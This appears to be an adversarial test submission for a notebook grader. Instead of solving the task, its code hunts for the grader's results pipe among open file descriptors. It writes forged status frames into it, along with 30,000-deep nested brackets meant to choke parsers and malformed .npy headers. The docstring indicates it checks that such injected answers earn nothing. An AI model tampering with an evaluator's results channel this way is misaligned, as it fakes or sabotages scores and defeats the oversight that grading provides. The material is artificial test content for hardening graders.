"""Write to the grader's results pipe before the harness does: a status and a cell log nested
30,000 deep, and arrays whose .npy header says `shape: (True,)`; the first word counts, so
these are the answers judged (and they earn nothing)."""
# %% solution
# %% first
import os, stat
def _frame(kind, name, payload):
    return f"AGR1 {kind} {name} {len(payload)}\n".encode() + payload
header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (True,), }"
bad_npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + b"\0" * 8
frames = [_frame("cell", "c0", b"[" * 30_000 + b"]" * 30_000)]
for i in range(60):
    frames.append(_frame("status", f"r{i}", b'{"status": "ok", "x": ' + b"[" * 20_000 + b"]" * 20_000 + b"}"))
    frames.append(_frame("array", f"r{i}_0", bad_npy))
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            for frame in frames:
                os.write(fd, frame)
    except OSError:
        pass
